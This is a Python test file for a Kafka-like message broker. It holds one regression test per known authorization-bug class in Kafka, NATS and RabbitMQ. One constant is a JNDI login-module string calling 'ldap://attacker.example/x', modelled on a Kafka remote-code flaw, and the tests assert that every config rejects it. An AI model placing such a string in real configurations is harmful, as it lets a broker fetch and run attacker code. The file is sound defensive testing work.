"""Bugs of other systems that let a client do what it may not: one test for each class.

The docstring of a test names the bug. Other tests are about some of the same rules; these fail if
the class of bug comes back, whatever the rule is then called.
"""

from itertools import permutations
from pathlib import Path

import pytest

from barnabas.metadata.broker_config import INHERITED, OWN
from barnabas.metadata.security_records import AclRemoved
from barnabas.metadata.topic_config_table import DEFINITIONS
from barnabas.model.callers import Caller, Principal
from barnabas.model.errors import ApiError, ErrorCode, WireError
from barnabas.model.ids import TopicPartition
from barnabas.model.permissions import Operation, Permission, ResourceType
from barnabas.protocol.messages import produce as messages
from barnabas.protocol.messages.create_topics import CreatableTopic, CreateTopicsRequest
from barnabas.protocol.messages.delete_topics import DeleteTopicsRequest, DeleteTopicState
from barnabas.protocol.messages.fetch import FetchRequest
from barnabas.protocol.messages.metadata import MetadataRequest, MetadataRequestTopic
from barnabas.protocol.records import Record, build
from barnabas.security.authorizer import Authorizer
from tests.support.talk.dialogue import Dialogue
from tests.support.talk.requests import batch, create_topic, fetch, produce
from tests.support.talk.rights import ADMIN, OPEN, SECRET, SECURED, acl, caller, set_acls, set_role

READ: Permission = (Operation.READ, ResourceType.TOPIC)
WRITE: Permission = (Operation.WRITE, ResourceType.TOPIC)
ALL: Permission = (Operation.ALL, ResourceType.TOPIC)
T = ErrorCode.TOPIC_AUTHORIZATION_FAILED
BY_ID = 13
LOGIN_MODULE = (
    "com.sun.security.auth.module.JndiLoginModule required user.provider.url="
    '"ldap://attacker.example/x";'
)
CONFIGS = {**DEFINITIONS, **INHERITED, **OWN}
"""The configs that have an effect; others that Kafka has are stored and not used."""


@pytest.fixture
def talk(tmp_path: Path) -> Dialogue:
    """A broker with two topics, and the user alice, which has no rights yet."""
    found = Dialogue(tmp_path, SECURED)
    found.caller = caller(ADMIN)
    create_topic(found, SECRET)
    create_topic(found, OPEN)
    found.caller = caller()
    return found


def end_of(talk: Dialogue, topic: str) -> int:
    return talk.node.partitions[TopicPartition(topic, 0)].log.end_offset


class TestPosingAsReplica:
    """CVE-2018-1288 (Kafka): a client that named a replica in its fetch stopped replication."""

    @pytest.mark.parametrize("name", [ADMIN, Principal("User", "alice")])
    def test_a_client_is_no_follower(self, talk: Dialogue, name: Principal) -> None:
        talk.caller = caller(name)
        before = end_of(talk, SECRET)
        with pytest.raises(WireError, match="listener for brokers"):
            talk.ask(FetchRequest(replica_id=2, max_wait_ms=0), 12)
        assert end_of(talk, SECRET) == before


class TestCodeInConfigs:
    """CVE-2025-27818 (Kafka): a login module in a config made the broker run foreign code."""

    @pytest.mark.parametrize("name", sorted(CONFIGS))
    def test_a_config_takes_no_code_and_no_place(self, name: str) -> None:
        with pytest.raises(ApiError):
            CONFIGS[name].parse(LOGIN_MODULE)


class TestLostAcls:
    """CVE-2024-27309 (Kafka): a change of one ACL of a resource lost another one."""

    @pytest.mark.parametrize("order", list(permutations(range(4))))
    @pytest.mark.parametrize("reloads", [False, True])
    def test_what_is_left_counts(
        self, talk: Dialogue, order: tuple[int, ...], *, reloads: bool
    ) -> None:
        acls = [
            acl(READ, SECRET),
            acl(READ, SECRET[:3], prefixed=True),
            acl(READ, "*", principal="User:*"),
            acl(READ, SECRET, host="10.0.0.1"),
        ]
        set_acls(talk, acls)
        for number in order:
            assert fetch(talk, SECRET, 0).error_code == 0
            talk.node.commit([AclRemoved(acl_id=acls[number].acl_id)], talk.now_ms)
            talk.settle()
            if reloads:
                talk.node.metadata_changed(None)
        assert fetch(talk, SECRET, 0).error_code == T

    def test_a_denial_is_not_lost_with_a_right(self, talk: Dialogue) -> None:
        allowed, denied = acl(WRITE, SECRET), acl(WRITE, SECRET, deny=True)
        other = acl(WRITE, "*")
        set_acls(talk, [allowed, other, denied])
        talk.node.commit([AclRemoved(acl_id=allowed.acl_id)], talk.now_ms)
        talk.settle()
        assert produce(talk, SECRET, batch()).error_code == T


class TestDenialsThatUndoEachOther:
    """NATS 2026-18: a denial for one kind of subscriber undid the plain denial."""

    DENIALS = ("literal", "prefix", "star", "everyone", "role", "host", "all")

    def denials(self) -> dict[str, dict[str, object]]:
        return {
            "literal": {"name": SECRET},
            "prefix": {"name": SECRET[:3], "prefixed": True},
            "star": {"name": "*"},
            "everyone": {"name": SECRET, "principal": "User:*"},
            "role": {"name": SECRET, "principal": "Role:staff"},
            "host": {"name": SECRET, "host": "10.0.0.1"},
            "all": {"name": SECRET, "permission": ALL},
        }

    @pytest.mark.parametrize("second", DENIALS)
    @pytest.mark.parametrize("first", DENIALS)
    def test_one_denial_is_enough(self, talk: Dialogue, first: str, second: str) -> None:
        set_role(talk, "staff", "User:alice")
        made = [
            acl(**{"permission": WRITE, **self.denials()[each]}, deny=True)  # type: ignore[arg-type]
            for each in (first, second)
        ]
        rights = [acl(ALL, SECRET), acl(WRITE, "*", principal="User:*")]
        set_acls(talk, [*rights, *made])
        assert produce(talk, SECRET, batch()).error_code == T
        talk.node.commit([AclRemoved(acl_id=made[1].acl_id)], talk.now_ms)
        talk.settle()
        assert produce(talk, SECRET, batch()).error_code == T


class TestWritingOnAnotherWay:
    """CVE-2026-33249 (NATS): headers of a message made the server write where its sender may not.

    Here a record's headers have no meaning, and each way to write or to create has its own check.
    """

    def test_headers_of_records_write_nowhere(self, talk: Dialogue) -> None:
        set_acls(talk, [acl(WRITE, OPEN)])
        headers = (("Nats-Trace-Dest", SECRET.encode()), ("topic", SECRET.encode()))
        content = bytes(build([Record(0, talk.now_ms, None, b"v", headers)]))
        before = {topic: end_of(talk, topic) for topic in (SECRET, OPEN)}
        assert produce(talk, OPEN, bytearray(content)).error_code == 0
        assert end_of(talk, OPEN) == before[OPEN] + 1
        assert end_of(talk, SECRET) == before[SECRET]

    def test_a_topic_is_created_by_no_other_request(self, talk: Dialogue) -> None:
        set_acls(talk, [acl(WRITE, "new"), acl(READ, "new")])
        wanted = [MetadataRequestTopic(name="new")]
        asked = MetadataRequest(topics=wanted, allow_auto_topic_creation=True)
        assert talk.ask(asked, 12).topics[0].error_code == T
        creation = CreatableTopic(name="new", num_partitions=1, replication_factor=1)
        answer = talk.ask(CreateTopicsRequest(topics=[creation], timeout_ms=1000), 7)
        assert answer.topics[0].error_code == T
        produce(talk, "new", batch())
        assert "new" not in talk.node.image.topics


class TestReachingAnotherStream:
    """GHSA-9983 (NATS): who might restore one stream restored into another.

    The right is that to the topic which is really changed, not to a name beside it.
    """

    def test_by_id_the_topic_itself_decides(self, talk: Dialogue) -> None:
        set_acls(talk, [acl(ALL, OPEN)])
        topic_id = talk.node.image.topics[SECRET].topic_id
        before = end_of(talk, SECRET)
        part = messages.PartitionProduceData(index=0, records=bytes(batch()))
        data = messages.TopicProduceData(name=OPEN, topic_id=topic_id, partition_data=[part])
        request = messages.ProduceRequest(acks=-1, timeout_ms=1000, topic_data=[data])
        answer = talk.ask(request, BY_ID)
        assert answer.responses[0].partition_responses[0].error_code == T
        assert end_of(talk, SECRET) == before
        deletion = DeleteTopicsRequest(topics=[DeleteTopicState(name=None, topic_id=topic_id)])
        (deleted,) = talk.ask(deletion, 6).responses
        assert (deleted.name, deleted.error_code) == (None, T)
        assert SECRET in talk.node.image.topics


class TestPatternsFromClients:
    """CVE-2026-44838 (RabbitMQ): a client id was part of a permission's regular expression.

    Names are compared as they are, whatever characters they have.
    """

    STRANGE = ("*", ".*", "a.b", "[a-z]+", "User:*", "Role:staff", "%", "ali?e", "alice|bob", "")

    @pytest.mark.parametrize("name", STRANGE)
    def test_a_name_is_no_pattern_for_principals(self, talk: Dialogue, name: str) -> None:
        set_role(talk, "staff", "User:alice")
        set_acls(talk, [acl(READ, SECRET), acl(READ, OPEN, principal="Role:staff")])
        authorizer = talk.node.authorizer
        assert isinstance(authorizer, Authorizer)
        talk.caller = Caller(Principal("User", name), talk.caller.listener, talk.caller.host)
        assert fetch(talk, SECRET, 0).error_code == T
        assert fetch(talk, OPEN, 0).error_code == T
        assert authorizer.roles_of(str(talk.caller.principal)) == ()

    @pytest.mark.parametrize("name", ["secre.", "s.*", "[a-z]*", "%", "secret|open", "SECRET"])
    def test_a_name_is_no_pattern_for_resources(self, talk: Dialogue, name: str) -> None:
        set_acls(talk, [acl(READ, name), acl(READ, name, prefixed=True)])
        assert fetch(talk, SECRET, 0).error_code == T
